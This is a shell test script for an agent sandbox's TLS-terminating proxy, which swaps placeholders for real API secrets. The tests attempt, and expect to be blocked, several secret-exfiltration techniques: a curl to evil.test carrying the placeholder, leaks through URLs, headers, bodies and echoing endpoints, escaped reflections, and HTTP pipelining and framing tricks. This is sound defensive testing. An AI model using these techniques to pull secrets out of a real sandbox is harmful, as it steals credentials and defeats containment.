#!/bin/bash
# tls.sh - TLS termination: a sandbox's own CA, secrets swapped from
# placeholders only where allowed, rules by method, path and size.
#
#   tests/tls.sh CORRAL [TEST...]
#
# The upstream is tls_upstream.py, an HTTPS server with a CA this script
# makes (the policy's network.tls_upstream_ca tells corral to trust it),
# which writes every byte it receives to a log: what left the sandbox is
# read there.  As root it runs in a network namespace this script makes,
# over a veth pair (198.18.79.0/30); otherwise on loopback.  Names reach it
# through the policy's "hosts" map only.
set -u
CORRAL=$(readlink -f "$1")
shift
HERE=$(cd "$(dirname "$0")" && pwd)
TEST_TMP=$(mktemp -d "${TMPDIR:-/tmp}/corral-tls.XXXXXX")
chmod 755 "$TEST_TMP"
. "$HERE/lib.sh"
ME=$(id -u)
NS=""
PIDS=""
SECRET="s3cret-$$-value"
QSECRET="q-$$-secret"

cleanup_all() {
	for p in $PIDS; do kill "$p" 2>/dev/null || true; wait "$p" 2>/dev/null || true; done
	if [ -n "$NS" ]; then
		ip link del "vt$$a" 2>/dev/null || true
		ip netns del "$NS" 2>/dev/null || true
	fi
	[ -n "${KEEP:-}" ] || rm -rf "$TEST_TMP"
}
trap cleanup_all EXIT

# ---- the test's CA, its certificates, the upstreams -------------------------

mkcerts() {
	local d=$TEST_TMP
	test_ca "$d" DNS:api.test,DNS:other.test &&
	# bad.test: a certificate no trusted CA signed
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
		-subj /CN=bad.test -addext subjectAltName=DNS:bad.test \
		-keyout "$d/bad.key" -out "$d/bad.pem" 2>/dev/null &&
	printf '%s\n' "$QSECRET" > "$d/qkey" &&
	chmod 644 "$d"/*
}

# upstream VAR LOG CERT KEY: start one, its port in VAR
upstream() {
	local var=$1 pf=$TEST_TMP/$1.port i
	${NS:+ip netns exec "$NS"} /usr/bin/python3 "$HERE/tls_upstream.py" "$pf" "$2" "$3" "$4" \
		"$ADDR" >/dev/null 2>&1 &
	PIDS="$PIDS $!"
	for i in $(seq 1 100); do [ -s "$pf" ] && break; sleep 0.05; done
	[ -s "$pf" ] || { echo "upstream did not start" >&2; exit 1; }
	printf -v "$var" '%s' "$(cat "$pf")"
}

setup() {
	mkcerts || { echo "openssl failed" >&2; exit 1; }
	ADDR=127.0.0.1
	if [ "$ME" = 0 ] && command -v ip >/dev/null; then
		NS=corral-tls$$
		ip netns add "$NS" &&
		ip link add "vt$$a" type veth peer name "vt$$b" &&
		ip link set "vt$$b" netns "$NS" &&
		ip addr add 198.18.79.1/30 dev "vt$$a" &&
		ip link set "vt$$a" up &&
		ip -n "$NS" addr add 198.18.79.2/30 dev "vt$$b" &&
		ip -n "$NS" link set "vt$$b" up &&
		ip -n "$NS" link set lo up || { echo "netns setup failed" >&2; exit 1; }
		ADDR=198.18.79.2
	fi
	GOODLOG=$TEST_TMP/good.log
	BADLOG=$TEST_TMP/bad.log
	upstream GOOD "$GOODLOG" "$TEST_TMP/srv.pem" "$TEST_TMP/srv.key"
	upstream BAD "$BADLOG" "$TEST_TMP/bad.pem" "$TEST_TMP/bad.key"
	HOSTS="{\"api.test\": \"$ADDR\", \"other.test\": \"$ADDR\", \"bad.test\": \"$ADDR\"}"
}

# policy EXTRA_ALLOW [TOP_LEVEL_EXTRA]: write $T/p.json
policy() {
	printf '{"network": {"mode": "proxy", "allow": ["api.test:%s", {"host": "other.test:%s", "tls": "terminate"}, {"host": "bad.test:%s", "tls": "terminate"}%s], "hosts": %s, "tls_upstream_ca": "%s"}%s}\n' \
		"$GOOD" "$GOOD" "$BAD" "${1:-}" "$HOSTS" "$TEST_TMP/ca.pem" "${2:-}" > "$T/p.json"
	chmod 644 "$T/p.json"
}

SECRETS='"secrets": [{"name": "API_KEY", "from_env": "CORRAL_TEST_SECRET", "hosts": ["api.test:GOOD"], "header": "Authorization"}, {"name": "Q_KEY", "from_file": "QFILE", "hosts": ["api.test:GOOD"], "query": "key"}]'
secrets_policy() {
	local s=${SECRETS//GOOD/$GOOD}
	policy "${1:-}" ", ${s//QFILE/$TEST_TMP/qkey}${2:-}"
}

# nrun ARGS...: corral run with events; out/err/rc/events in $T
nrun() {
	local rc=0
	: > "$T/events"
	: > "$GOODLOG"
	: > "$BADLOG"
	CORRAL_TEST_SECRET=$SECRET timeout 60 "$CORRAL" run --json --policy "$T/p.json" \
		--events "$T/events" "$@" > "$T/out" 2> "$T/err" < /dev/null || rc=$?
	echo "$rc" > "$T/rc"
}
stdout() { json stdout < "$T/out"; }
denials() { grep -c '"type":"egress.denied"' "$T/events" || true; }
count() { grep -o -- "$1" "$2" | wc -l; }
# Python for the sandbox: pipelined(*reqs) sends requests ((method, path)
# pairs, or paths for GETs) to api.test in one write over one terminated
# connection, with the placeholder's Authorization, and prints all that
# came back until the proxy or the server ended it.  PRE: a head whose
# Content-Length ends inside what an echo adds after it (the value).
pipelined_py() {
	cat <<EOF
import os, socket, ssl, urllib.parse
PRE = urllib.parse.quote(b'HTTP/1.1 200 OK\\r\\nContent-Length: 12\\r\\n\\r\\n').encode()
def pipelined(*reqs):
    s = socket.create_connection(('127.0.0.1', 3128), 10)
    s.sendall(b'CONNECT api.test:$GOOD HTTP/1.1\\r\\n\\r\\n')
    s.recv(4096)
    t = ssl.create_default_context().wrap_socket(s, server_hostname='api.test')
    a = ('Authorization: Bearer ' + os.environ['API_KEY']).encode()
    reqs = [r if isinstance(r, tuple) else (b'GET', r) for r in reqs]
    t.sendall(b''.join(m + b' ' + p + b' HTTP/1.1\\r\\nHost: api.test\\r\\n' + a +
                       b'\\r\\n\\r\\n' for m, p in reqs))
    got = b''
    while True:
        try:
            b = t.recv(65536)
        except (OSError, ssl.SSLError):
            break
        if not b:
            break
        got += b
    print(got.decode('latin-1'))
EOF
}

# srt_settings [JSON]: $T/srt.json, sandbox-runtime's settings (by
# default: the sandbox writes its working directory), readable by the
# run's user
srt_settings() {
	local here='{"filesystem": {"allowWrite": ["."]}}'

	printf '%s\n' "${1:-$here}" > "$T/srt.json"
	chmod a+rX "$T" "$T/srt.json"
}

# srt_sh SCRIPT: SCRIPT run by sh in the project ($T/proj, its working
# directory inside too) under $T/srt.json; its output in $T/out, $T/err
srt_sh() {
	(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "cd $T/proj
$1") > "$T/out" 2> "$T/err" < /dev/null
}

# ---- tests ------------------------------------------------------------------

t_clients_get_the_secret_swapped() {
	secrets_policy
	local basic node=true
	basic=$(printf 'agent:%s' "$SECRET" | base64 -w0)
	command -v node >/dev/null || node=false
	nrun -- /bin/sh -c "
curl -sS -m 10 -H \"Authorization: Bearer \$API_KEY\" https://api.test:$GOOD/curl; echo
curl -sSv -m 10 -o /dev/null https://api.test:$GOOD/issuer 2>&1 | grep -i 'issuer:'
/usr/bin/python3 -c '
import base64, os, urllib.request
auth = base64.b64encode((\"agent:\" + os.environ[\"API_KEY\"]).encode()).decode()
r = urllib.request.Request(\"https://api.test:$GOOD/py?key=\" + os.environ[\"Q_KEY\"] + \"&x=1\",
                           headers={\"Authorization\": \"Basic \" + auth})
print(urllib.request.urlopen(r, timeout=10).read().decode())'
if $node; then node -e '
require(\"https\").get(\"https://api.test:$GOOD/node\", {headers: {authorization: \"Bearer \" + process.env.API_KEY}},
  r => { let b = \"\"; r.on(\"data\", d => b += d); r.on(\"end\", () => console.log(b.trim())); })
  .on(\"error\", e => console.log(\"node error\", e.message))'; fi
git ls-remote https://api.test:$GOOD/repo.git 2>&1 | head -3
"
	expect_contains "curl" "$(stdout)" "hello from upstream /curl"
	expect_contains "minted by the sandbox's CA" "$(stdout)" "corral sandbox CA"
	expect_contains "python" "$(stdout)" "hello from upstream /py?key="
	expect_contains "bearer swapped" "$(cat "$GOODLOG")" "Authorization: Bearer $SECRET"
	expect_contains "basic swapped" "$(cat "$GOODLOG")" "Authorization: Basic $basic"
	expect_contains "query swapped" "$(cat "$GOODLOG")" "GET /py?key=$QSECRET&x=1 "
	if $node; then
		expect_contains "node" "$(stdout)" "hello from upstream /node"
		expect_eq "bearer twice (curl, node)" "$(count "Bearer $SECRET" "$GOODLOG")" 2
	fi
	# git reached it over verified TLS (the answer is no git repository)
	expect_contains "git" "$(cat "$GOODLOG")" "GET /repo.git/info/refs?service=git-upload-pack"
	expect_not_contains "no placeholder upstream" "$(cat "$GOODLOG")" "corral-ph-"
	expect_eq "no denials" "$(denials)" 0
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
}

# A secret's file in the sandbox's view would give the value away as a
# plain read, placeholders or not (`--workspace .` with the key in the
# project): refused, whichever source shows it and however it is spelled.
t_secret_file_never_in_the_view() {
	local s=${SECRETS//GOOD/$GOOD} how
	mkdir -p "$T/proj/keys" "$T/other" &&
	printf '%s\n' "$QSECRET" > "$T/proj/keys/q" &&
	ln -s proj "$T/link" && echo fine > "$T/other/f" || { fail "setup"; return 1; }
	policy "" ", ${s//QFILE/$T/proj/keys/q}"
	for how in "--workspace $T/proj" "--workspace $T/link" "--ro $T/proj/keys:/k" \
		"--ro $T/link/keys/q:/q" "--rw $T/proj:/p"; do
		# shellcheck disable=SC2086
		nrun $how -- /bin/sh -c 'cat /workspace/keys/q /k/q /q /p/keys/q 2>/dev/null; echo ran'
		expect_not_contains "$how: the value" "$(cat "$T/out" "$T/err")" "$QSECRET"
		expect_not_contains "$how: never ran" "$(stdout)" ran
		expect_contains "$how: refused" "$(cat "$T/err")" "secret Q_KEY: its file $T/proj/keys/q lies in the"
	done
	# a view beside the file is no view of it
	nrun --workspace "$T/other" --ro "$T/other:/o" -- /bin/sh -c 'cat /workspace/f /o/f'
	expect_eq "a view without it" "$(stdout)" "fine
fine"
	# another name of the file, which corral cannot find from it
	ln "$T/proj/keys/q" "$T/other/q" || { fail "ln"; return 1; }
	nrun --workspace "$T/other" -- /bin/sh -c 'cat /workspace/q; echo ran'
	expect_not_contains "a hard link: the value" "$(cat "$T/out" "$T/err")" "$QSECRET"
	expect_contains "a hard link: refused" "$(cat "$T/err")" "has another hard link, which may lie in the"
}

# A bind is recursive: the host's mount of the key's directory beneath a
# source is shown with it, though the walk up from the file never passes
# the source (found in the mount table).
t_secret_file_mounted_beneath_a_view() {
	[ "$(id -u)" = 0 ] || { skip "a host bind mount needs root"; return 77; }
	local s=${SECRETS//GOOD/$GOOD}
	mkdir -p "$T/keys" "$T/view/k" || { fail "setup"; return 1; }
	printf '%s\n' "$QSECRET" > "$T/keys/q"
	policy "" ", ${s//QFILE/$T/keys/q}"
	mount --bind "$T/keys" "$T/view/k" || { fail "mount --bind"; return 1; }
	nrun --ro "$T/view:/v" -- /bin/sh -c 'cat /v/k/q; echo ran'
	umount "$T/view/k" || fail "umount $T/view/k"
	expect_not_contains "the value" "$(cat "$T/out" "$T/err")" "$QSECRET"
	expect_not_contains "never ran" "$(stdout)" ran
	expect_contains "refused" "$(cat "$T/err")" "secret Q_KEY: its file $T/keys/q lies in the bind $T/view"
}

# Nor a secret's variable passed in as it is (env.pass of its from_env).
t_secret_variable_never_passed() {
	secrets_policy
	nrun --env-pass CORRAL_TEST_SECRET -- /bin/sh -c 'echo "$CORRAL_TEST_SECRET"; echo ran'
	expect_not_contains "the value" "$(cat "$T/out" "$T/err")" "$SECRET"
	expect_not_contains "never ran" "$(stdout)" ran
	expect_contains "refused" "$(cat "$T/err")" "secret API_KEY: its variable CORRAL_TEST_SECRET is passed in"
}

t_placeholder_elsewhere_is_refused_and_never_leaks() {
	secrets_policy
	nrun -- /bin/sh -c "
h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
echo ph=\$API_KEY >&2
h -H \"Authorization: Bearer \$API_KEY\" https://other.test:$GOOD/other-host
curl -sS -m 10 -o /dev/null -w '%{http_connect}\n' -H \"Authorization: Bearer \$API_KEY\" https://evil.test/denied-host
h \"https://api.test:$GOOD/in-url?leak=\$API_KEY\"
h -H \"X-Other: \$API_KEY\" https://api.test:$GOOD/other-header
h \"https://other.test:$GOOD/q?key=\$Q_KEY\"
h -H \"Authorization: Bearer \$API_KEY\" http://api.test:$GOOD/plain
/usr/bin/python3 -c '
import os, urllib.request
body = (\"x\" * 100000 + os.environ[\"API_KEY\"]).encode()
try:
    urllib.request.urlopen(urllib.request.Request(\"https://api.test:$GOOD/body\", data=body), timeout=10)
    print(\"body went\")
except Exception as e:
    print(\"body refused\", getattr(e, \"code\", e))'
"
	expect_eq "other host, denied host, url, header, query, plain http: refused" \
		"$(stdout | head -6 | tr '\n' ' ')" "403 403 403 403 403 403 "
	expect_contains "body" "$(stdout)" "body refused"
	expect_not_contains "the secret never left" "$(cat "$GOODLOG" "$BADLOG")" "$SECRET"
	expect_not_contains "nor the query's" "$(cat "$GOODLOG")" "$QSECRET"
	expect_not_contains "URL never left" "$(cat "$GOODLOG")" "in-url"
	expect_not_contains "header never left" "$(cat "$GOODLOG")" "other-header"
	local ph
	ph=$(json stderr < "$T/out" | grep -o 'corral-ph-[0-9a-f]*')
	[ -n "$ph" ] || fail "no placeholder inside"
	expect_not_contains "body never left" "$(cat "$GOODLOG")" "$ph"
	expect_eq "each an event" "$(denials)" 7
	expect_eq "naming the secret" "$(grep '"type":"egress.denied"' "$T/events" | grep -c 'secret API_KEY\|secret Q_KEY')" 6
	expect_contains "attributed" "$(grep 'secret API_KEY' "$T/events" | head -1)" '"pid":'
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
}

# the mask over SECRET's value, as the proxy writes it: a * a byte
stars() { printf '%*s' ${#SECRET} '' | tr ' ' '*'; }

# leaked FILE: does FILE show a secret's value, raw or in base64 at any
# alignment (Basic credentials echoed), or in a gzip body?  Prints what.
leaked() {
	/usr/bin/python3 - "$1" "$SECRET" "$QSECRET" <<-'PY'
	import base64, re, sys, zlib
	data = open(sys.argv[1], "rb").read()
	for s in sys.argv[2:]:
	    s = s.encode()
	    if s in data:
	        print("raw", s.decode())
	    # the middle of a value: what a base64 form of it cannot hide
	    mid = s[2:-2]
	    for run in re.findall(rb"[A-Za-z0-9+/]{8,}={0,2}", data):
	        for cut in range(4):
	            t = run[cut:]
	            t = t[:len(t) - len(t) % 4] if not t.endswith(b"=") else t
	            try:
	                if mid in base64.b64decode(t):
	                    print("base64", run.decode())
	            except ValueError:
	                pass
	PY
}

# Each connection whose answer showed a secret's value is an egress.masked
# event, and an agent can open as many as it likes to an echoing host: past
# the sandbox's events.budget they are counted, as the connections
# themselves are, not written one by one (every one of them was a line).
# 50 connections: the budget is reached by about the tenth (9 masked lines
# whole, -O2, root or not), and one line a connection, as before, would be
# 50, twice the bound; 150 cost three times the CPU for the same showing.
t_masked_answers_keep_the_budget() {
	secrets_policy "" ', "events": {"budget": "16K", "verbatim": 2, "summary_interval": "60s"}'
	nrun -- /usr/bin/python3 -c "
import http.client, os, ssl
ctx = ssl.create_default_context()
n = 0
for i in range(50):
    c = http.client.HTTPSConnection('api.test', $GOOD, timeout=10, context=ctx)
    c.request('GET', '/echo', headers={'Authorization': 'Bearer ' + os.environ['API_KEY']})
    n += b'Bearer ****' in c.getresponse().read()
    c.close()
print(n)"
	expect_eq "exit" "$(cat "$T/rc")" 0
	expect_eq "every answer masked" "$(stdout)" 50
	local whole counted
	read -r whole counted < <(kind_counts "$T/events" egress.masked)
	[ "$whole" -lt 25 ] || fail "$whole egress.masked lines past a budget of 16K"
	expect_eq "each one counted" "$((whole + counted))" 50
	grep -q '"type":"log.budget"' "$T/events" || fail "no log.budget event"
	expect_not_contains "never in events" "$(cat "$T/events")" "$SECRET"
}

# A host that reflects a request shows the agent what the proxy swapped
# in: TRACE echoes it, an /anything endpoint, an error page, a redirect's
# Location; in Basic credentials, in chunks, compressed.  Each answer comes
# back with every form of the value masked, or not at all.
t_reflections_never_show_the_secret() {
	secrets_policy
	nrun -- /bin/sh -c "
c() { curl -sS -m 10 \"\$@\"; echo; }
a=\"Authorization: Bearer \$API_KEY\"
echo == trace; c -X TRACE -H \"\$a\" https://api.test:$GOOD/trace
echo == echo; c -H \"\$a\" https://api.test:$GOOD/echo
echo == chunked; c -H \"\$a\" https://api.test:$GOOD/echo-chunked
echo == basic; c -u \"agent:\$API_KEY\" https://api.test:$GOOD/echo
echo == basic-chunked; c -u \"a:\$API_KEY\" https://api.test:$GOOD/echo-chunked
echo == error; c -H \"\$a\" https://api.test:$GOOD/error
echo == query; c \"https://api.test:$GOOD/echo?key=\$Q_KEY&x=1\"
echo == redirect; c -D - -o /dev/null \"https://api.test:$GOOD/redirect?key=\$Q_KEY&x=1\"
echo == gzip; curl -sS -m 10 -H \"\$a\" https://api.test:$GOOD/echo-gzip | gunzip -c; echo
echo == gzip-code; c -o /dev/null -w '%{http_code}' -H \"\$a\" https://api.test:$GOOD/echo-gzip
echo == br; c -o /dev/null -w '%{http_code}' -H \"\$a\" https://api.test:$GOOD/echo-br
echo == end"
	stdout > "$T/seen"
	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
	expect_contains "all ran" "$(cat "$T/seen")" "== end"
	# each request went, each with the value swapped in (the server had it)
	expect_eq "bearer swapped" "$(count "Bearer $SECRET" "$GOODLOG")" 6
	expect_contains "query swapped" "$(cat "$GOODLOG")" "GET /redirect?key=$QSECRET&x=1 "
	# no TRACE ever carries a secret
	expect_not_contains "no TRACE went" "$(cat "$GOODLOG")" "TRACE /trace"
	expect_contains "TRACE refused" "$(cat "$T/events")" "TRACE"
	# what the reflections show instead: a mask, as long as the value
	local mask
	mask=$(stars)
	expect_contains "echo masked" "$(sed -n '/== echo/,/== chunked/p' "$T/seen")" "Bearer $mask"
	expect_contains "error masked" "$(cat "$T/seen")" "invalid key: Bearer $mask"
	expect_contains "Location masked" "$(cat "$T/seen")" "landing?key=$(printf '%*s' ${#QSECRET} '' | tr ' ' '*')&x=1"
	expect_contains "identity asked for" "$(cat "$GOODLOG")" "Accept-Encoding: identity"
	expect_eq "gzip and br answers cut off" "$(grep -A1 '== gzip-code\|== br' "$T/seen" | grep -c 502)" 2
	expect_contains "said so" "$(cat "$T/events")" "a response from api.test"
	expect_contains "masking said" "$(cat "$T/events")" '"type":"egress.masked"'
	expect_contains "masking named" "$(grep egress.masked "$T/events" | head -1)" "API_KEY"
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
	expect_not_contains "nor the query's" "$(cat "$T/events" "$T/out")" "$QSECRET"
}

# Values that hold what encoders escape ("/ + = & < > \" '", a space, é, a
# character past U+FFFF), for the escaped reflections.
ESECRET="e/sc+ap=e&<é>\"$$ x/y'q😀z"
EQSECRET="q/s+e=c-$$"
ESC_SECRETS='"secrets": [{"name": "E_KEY", "from_file": "EFILE", "hosts": ["api.test:GOOD"], "header": "Authorization"}, {"name": "EQ_KEY", "from_file": "EQFILE", "hosts": ["api.test:GOOD"], "query": "key"}]'

# esc_policy [TOP_LEVEL_EXTRA]: the two escaped secrets, in files
esc_policy() {
	local s=${ESC_SECRETS//GOOD/$GOOD}
	printf '%s\n' "$ESECRET" > "$TEST_TMP/ekey"
	printf '%s\n' "$EQSECRET" > "$TEST_TMP/eqkey"
	chmod 644 "$TEST_TMP/ekey" "$TEST_TMP/eqkey"
	s=${s//EQFILE/$TEST_TMP/eqkey}
	policy "" ", ${s//EFILE/$TEST_TMP/ekey}${1:-}"
}

# leaked_escaped FILE VALUE...: does FILE show a value once its escapes
# are undone (JSON, HTML, percent, up to three deep), raw or in base64?
leaked_escaped() {
	/usr/bin/python3 - "$@" <<-'PY'
	import base64, html, re, sys, urllib.parse
	data = open(sys.argv[1], encoding="utf-8", errors="replace").read()
	def json_unescape(s):
	    pair = r"\\u([dD][89abAB][0-9a-fA-F]{2})\\u([dD][c-fC-F][0-9a-fA-F]{2})"
	    s = re.sub(pair, lambda m: chr(0x10000 + ((int(m.group(1), 16) - 0xd800) << 10)
	                                   + int(m.group(2), 16) - 0xdc00), s)
	    s = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), s)
	    s = re.sub(r"\\x([0-9a-fA-F]{2})", lambda m: chr(int(m.group(1), 16)), s)
	    return re.sub(r'\\(["\\/])', r"\1", s)
	def backslash_unescape(s):
	    # ES6's \u{H}, CSS's \H (a white space after), octal bytes, \ before punctuation
	    s = re.sub(r"\\u\{([0-9a-fA-F]{1,8})\}", lambda m: chr(int(m.group(1), 16)), s)
	    o = re.sub(r"\\([0-7]{3})", lambda m: chr(int(m.group(1), 8)), s)
	    try:
	        o = o.encode("latin-1").decode("utf-8")
	    except (UnicodeError, ValueError):
	        pass
	    s = o if o != s else re.sub(r"\\([0-9a-fA-F]{1,6})(\r\n|[ \t\n\f])?",
	                                lambda m: chr(min(int(m.group(1), 16), 0x10ffff)), s)
	    return re.sub(r"\\([ -/:-@\[-`{-~])", r"\1", s)
	undo = [html.unescape, urllib.parse.unquote, urllib.parse.unquote_plus, json_unescape,
	        backslash_unescape]
	views = {data}
	for _ in range(3):
	    views |= {u(v) for v in views for u in undo}
	for s in sys.argv[2:]:
	    mid = s[2:-2]
	    for v in views:
	        if mid in v:
	            print("escaped", repr(v[max(0, v.index(mid) - 40):v.index(mid) + 40]))
	            break
	        for run in re.findall(r"[A-Za-z0-9+/_-]{8,}={0,2}", v):
	            run = run.replace("-", "+").replace("_", "/")
	            for cut in range(4):
	                t = run[cut:]
	                t = t[:len(t) - len(t) % 4] if not t.endswith("=") else t
	                try:
	                    if mid.encode() in base64.b64decode(t):
	                        print("base64", run)
	                except ValueError:
	                    pass
	PY
}

# A server that reflects a request escapes it as its encoder does: JSON
# ("\/", "\u002B", "\u003c", surrogate pairs), HTML and XML references,
# percent-encoding in either case, twice, mixed, CSS's "\2f ", octal, ES6's
# "\u{2f}", a backslash before punctuation.  Each comes back masked.
t_escaped_reflections_never_show_the_secret() {
	esc_policy
	nrun -- /bin/sh -c "
c() { curl -sS -m 10 \"\$@\"; echo; }
a=\"Authorization: Bearer \$E_KEY\"
echo == escaped; c -H \"\$a\" \"https://api.test:$GOOD/escaped?key=\$EQ_KEY&x=1\"
echo == chunked; c -H \"\$a\" \"https://api.test:$GOOD/escaped-chunked?key=\$EQ_KEY&x=1\"
echo == basic; c -u \"agent:\$E_KEY\" https://api.test:$GOOD/escaped
echo == redirect; c -D - -o /dev/null -H \"\$a\" \"https://api.test:$GOOD/redirect-escaped?key=\$EQ_KEY&x=1\"
echo == end"
	stdout > "$T/seen"
	expect_eq "nothing of a value came back" "$(leaked_escaped "$T/seen" "$ESECRET" "$EQSECRET")" ""
	expect_contains "all ran" "$(cat "$T/seen")" "== end"
	# the server had the values: each request went with them swapped in
	expect_eq "bearer swapped" "$(count "Bearer $ESECRET" "$GOODLOG")" 3
	expect_contains "query swapped" "$(cat "$GOODLOG")" "GET /escaped?key=$EQSECRET&x=1 "
	# every escaped line holds a mask where the value was
	expect_eq "25 escapes, 5 echoes of them" "$(grep -c '^[a-z0-9-]*: ' "$T/seen")" 125
	expect_eq "each masked" "$(grep -c '^[a-z0-9-]*: .*\*\*\*\*\*\*\*\*' "$T/seen")" 125
	expect_contains "Location masked" "$(grep -i '^location:' "$T/seen")" "key%253D********"
	expect_contains "masking named" "$(grep egress.masked "$T/events" | head -1)" "E_KEY"
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$ESECRET"
	expect_not_contains "nor the query's" "$(cat "$T/events" "$T/out")" "$EQSECRET"
}

# The user's side: an answer full of the same escapes, of values that share
# all but their last character with the secrets, comes back byte for byte.
t_escaped_near_values_answered_unchanged() {
	local near nearq env
	near="${ESECRET%?}X"
	nearq="${EQSECRET%?}X"
	env=$(/usr/bin/python3 -c 'import json, sys; print(json.dumps({"NEAR": sys.argv[1], "NEARQ": sys.argv[2]}))' "$near" "$nearq")
	esc_policy ", \"env\": {\"set\": $env}"
	nrun -- /bin/sh -c "
curl -sS -m 10 -H \"Authorization: Bearer \$NEAR\" \"https://api.test:$GOOD/escaped?key=\$NEARQ&x=1\"
echo == end"
	stdout > "$T/seen"
	/usr/bin/python3 -B -c '
import sys
sys.path.insert(0, sys.argv[1])
import tls_upstream
sys.stdout.write(tls_upstream.escaped(b"GET / HTTP/1.1\r\nAuthorization: Bearer " + sys.argv[2].encode(),
                                      b"/escaped?key=" + sys.argv[3].encode() + b"&x=1").decode() + "== end\n")
' "$HERE" "$near" "$nearq" > "$T/want"
	# (stdout's last newline is the JSON reader's)
	expect_eq "byte for byte" "$(diff <(cat "$T/want"; echo) "$T/seen" 2>&1)" ""
	expect_eq "nothing masked" "$(grep -c egress.masked "$T/events")" 0
	expect_eq "no denials" "$(denials)" 0
}

# An answer the proxy cannot read (here a gzip one) cuts the connection
# where it begins, and the whole answers before it still go on: a
# pipelined echo that arrived in the same read went on as it was, value
# and all, never masked (an upstream that answers pipelined requests in
# one write, /pipe-echo; a request to a secret's host now goes up once
# the last answer ended, so that server would wait for a request that
# does not come).  The user's side: pipelined requests, one of them an
# echo, answered in turn, the echo masked, the next one unchanged.
t_answer_before_an_unreadable_one_masked() {
	secrets_policy
	nrun -- /usr/bin/python3 -c "$(pipelined_py)
print('== gzip')
pipelined(b'/frame-echo?pre=echo:', b'/echo-gzip')
print('== hello')
pipelined(b'/frame-echo?pre=echo:', b'/hello')"
	stdout > "$T/seen"
	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
	local mask
	mask=$(stars)
	expect_contains "the echo came back masked" "$(sed -n '/== gzip/,/== hello/p' "$T/seen")" \
		"Bearer $mask"
	expect_contains "the gzip one cut off" "$(cat "$T/events")" "Content-Encoding: gzip"
	expect_contains "said in its place" "$(sed -n '/== gzip/,/== hello/p' "$T/seen")" "HTTP/1.1 502"
	expect_contains "pipelined: the echo masked" "$(sed -n '/== hello/,$p' "$T/seen")" "Bearer $mask"
	expect_contains "pipelined: the next whole" "$(sed -n '/== hello/,$p' "$T/seen")" \
		"hello from upstream /hello"
	expect_eq "each went, with the value" "$(count "Bearer $SECRET" "$GOODLOG")" 4
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
}

# A server that sends a body where none goes (to a HEAD, with a 204) puts
# bytes on the stream that read as the next answer's: the attacker writes
# them (an echo) as a head whose Content-Length ends inside the value, and
# a request pipelined behind took them for its answer, released whole at
# its end: the value's first bytes.  Nothing after an answer with no body
# is read.
t_bodiless_answers_end_the_connection() {
	secrets_policy
	nrun -- /usr/bin/python3 -c "$(pipelined_py)
print('== head')
pipelined((b'HEAD', b'/frame-echo?pre=' + PRE), (b'GET', b'/hello'))
print('== 204')
pipelined((b'GET', b'/no-content-echo?pre=' + PRE), (b'GET', b'/hello'))"
	stdout > "$T/seen"
	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
	expect_not_contains "not its first bytes" "$(cat "$T/seen")" "Bearer ${SECRET:0:3}"
	expect_contains "the HEAD's answer went on" "$(sed -n '/== head/,/== 204/p' "$T/seen")" \
		"Content-Length: "
	expect_contains "the 204 went on" "$(sed -n '/== 204/,$p' "$T/seen")" "HTTP/1.1 204"
	# the request behind each waited for its end, and the connection ended
	expect_eq "the value went up, once each" "$(count "Bearer $SECRET" "$GOODLOG")" 2
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
}

# A server whose Content-Length is short of the body it sends: the rest
# came as the answer of a request pipelined behind, framed as the agent's
# echo in it said (a head whose Content-Length ends inside the value).  A
# request to a secret's host goes up once the last answer ended: the rest
# then comes with no request waiting, and is cut off.
t_bytes_past_a_short_answer_cut_off() {
	secrets_policy
	nrun -- /usr/bin/python3 -c "$(pipelined_py)
pipelined(b'/short-echo?pre=' + PRE, b'/hello')"
	stdout > "$T/seen"
	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
	expect_not_contains "not its first bytes" "$(cat "$T/seen")" "Bearer ${SECRET:0:3}"
	expect_contains "the answer as framed went on" "$(cat "$T/seen")" "Content-Length: 1"
	expect_contains "the rest cut off, said" "$(cat "$T/events")" "an answer to no request sent"
}

# The user's side: a HEAD, a 204 answer, then more requests on the same
# client: each answered (the answer with no body says Connection: close,
# the next request goes on a new connection), curl's and Python's.
t_bodiless_answers_then_more_requests() {
	secrets_policy
	nrun -- /bin/sh -c "
a=\"Authorization: Bearer \$API_KEY\"
u=https://api.test:$GOOD
curl -sS -m 10 -o /dev/null -w '%{http_code} ' -I -H \"\$a\" \$u/prefix \\
	--next -sS -m 10 -o /dev/null -w '%{http_code} ' -H \"\$a\" \$u/prefix \\
	--next -sS -m 10 -o /dev/null -w '%{http_code} ' -X DELETE -H \"\$a\" \$u/no-content \\
	--next -sS -m 10 -o /dev/null -w '%{http_code}\\n' -H \"\$a\" \$u/prefix
/usr/bin/python3 -c '
import http.client, os
c = http.client.HTTPSConnection(\"127.0.0.1\", 3128, timeout=10)
c.set_tunnel(\"api.test\", $GOOD)
h = {\"Authorization\": \"Bearer \" + os.environ[\"API_KEY\"]}
for m, p in ((\"HEAD\", \"/prefix\"), (\"GET\", \"/prefix\"), (\"DELETE\", \"/no-content\"),
             (\"GET\", \"/prefix\")):
    c.request(m, p, headers=h)
    r = c.getresponse()
    print(\"py\", m, r.status, len(r.read()))
'"
	local want=$((5 + 7 + ${#SECRET} - 1))
	expect_contains "curl" "$(stdout)" "200 200 204 200"
	expect_contains "python" "$(stdout | grep '^py' | tr '\n' ' ')" \
		"py HEAD 200 0 py GET 200 $want py DELETE 204 0 py GET 200 $want "
	expect_eq "no denials" "$(denials)" 0
}

# The hold can be timed: a streaming echo of the agent's guess, its next
# write later, brings the guess back at once unless it is a value's start,
# which is held until that write (measured here: 0.51 s against 0.05 s for
# a 0.5 s pause), one character at a time.  Each hold of 8 bytes or more
# that went on unmasked is counted, and past 8 in a sandbox no request
